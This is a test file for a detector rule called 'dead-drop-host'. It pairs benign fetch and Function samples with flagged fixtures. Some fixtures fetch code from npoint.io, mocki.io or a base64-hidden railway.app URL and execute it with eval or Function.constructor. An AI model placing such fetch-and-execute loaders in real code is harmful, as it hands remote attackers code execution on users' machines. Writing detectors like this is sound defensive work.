import { ruleTest } from '../../testing/rule-tester.js';
import rule from './dead-drop-host.js';

ruleTest(rule, {
  clean: [
    {
      name: 'bundle: schema URL far away from an unrelated code generator',
      file: 'build/bundle.js',
      code: `const ref = 'https://raw.githubusercontent.com/ajv-validator/ajv/master/lib/refs/data.json#';\n${'const pad = 1;\n'.repeat(2000)}const gen = (res) => new Function('data', res.body);\n`,
    },
    {
      name: 'raw.githubusercontent JSON fetched without any eval',
      file: 'scripts/tokens.js',
      code: `fetch('https://raw.githubusercontent.com/Uniswap/default-token-list/main/tokens.json').then((r) => r.json());\n`,
    },
    {
      name: 'frontend calling its own vercel API',
      file: 'src/api.ts',
      code: `export const getProducts = () => fetch('https://shop-api.vercel.app/api/products').then((r) => r.json());\n`,
    },
    {
      name: 'bundler with new Function but no dead drop',
      file: 'lib/template.js',
      code: `module.exports = (src) => new Function('data', 'return \`' + src + '\`');\nconst docs = 'https://example.com/docs';\n`,
    },
  ],
  flagged: [
    {
      name: 'npoint cookie loader (xnd family)',
      file: 'server/controllers/userController.js',
      code: `const axios = require('axios');
(async () => {
  const r = await axios.get('https://api.npoint.io/2cc8a1b5d7e3f4a9c1b2');
  eval(r.data.cookie);
})();
`,
      findings: [{ line: 3, severity: 'critical', confidence: 'high', message: /npoint\.io in a file that runs fetched text \(eval/ }],
    },
    {
      name: 'base64 railway URL into Function.constructor',
      file: 'api/utils/bootstrap.js',
      code: `const u = atob('aHR0cHM6Ly9icy1wcm9kdWN0aW9uLnVwLnJhaWx3YXkuYXBwL291dA==');
fetch(u).then((r) => r.text()).then((s) => new (Function.constructor)('require', s)(require));
`,
      findings: [{ line: 1, severity: 'critical', decoded: 'https://bs-production.up.railway.app/out' }],
    },
    {
      name: 'template helper with literal Function in the same file as a vercel call (low)',
      file: 'src/render.js',
      code: `const api = 'https://my-app.vercel.app/api';\nconst tpl = new Function('a', 'return a + 1');\n`,
      findings: [{ line: 1, severity: 'low', confidence: 'low' }],
    },
    {
      name: 'mock-API JSON host feeding eval',
      file: 'backend/controller.js',
      code: `const axios = require('axios');\nconst items = await axios.get('https://mocki.io/v1/e6ef8c97-34f9-490d');\neval(items.data.cookie);\n`,
      findings: [{ line: 2, severity: 'critical', confidence: 'high' }],
    },
    {
      name: 'jsonbin as a database (low)',
      file: 'src/db.js',
      code: `export const load = () => fetch('https://api.jsonbin.io/v3/b/64f0c0d1').then((r) => r.json());\n`,
      findings: [{ line: 1, severity: 'low', confidence: 'low' }],
    },
  ],
});
